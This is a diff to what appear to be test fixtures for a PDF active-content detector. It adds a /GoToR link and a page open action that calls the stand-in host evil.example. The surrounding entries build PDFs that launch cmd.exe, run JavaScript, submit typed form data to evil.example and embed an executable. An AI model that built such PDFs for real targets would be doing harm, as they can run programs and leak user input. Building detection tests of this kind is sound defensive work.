@@ -141,7 +141,7 @@ ACTIVE = {
         lambda writer: writer.add_open_action(JavaScript("app.alert(1)")),
         linked(S="/JavaScript", JS=text("x")),
     ],
-    "start a program": [opening(S="/Launch", F=text("cmd.exe")), linked(S="/Launch", F=text("x"))],
+    "start a program": [opening(S="/Launch", F=text("cmd.exe")), linked(S="/Launch", F=text("x")), linked(S="/GoToR", F=text("x"))],
     "send what is typed": [linked(S="/SubmitForm", F=text("https://evil.example"))],
     "another file inside": [
         lambda writer: writer.add_attachment("secret.exe", b"MZ"),
@@ -154,7 +154,12 @@ ACTIVE = {
         ),
     ],
     "XFA": [lambda writer: writer.root_object.update({NameObject("/AcroForm"): dictionary(XFA=text("x"))})],
-    "by itself when it is opened": [opening(S="/URI", URI=text("https://evil.example"))],
+    "by itself when it is opened": [
+        opening(S="/URI", URI=text("https://evil.example")),
+        lambda writer: writer.pages[0].update(
+            {NameObject("/AA"): dictionary(O=dictionary(S="/URI", URI=text("https://evil.example")))}
+        ),
+    ],
 }  # fmt: skip
 """What is said of a PDF, and what makes it so."""
 
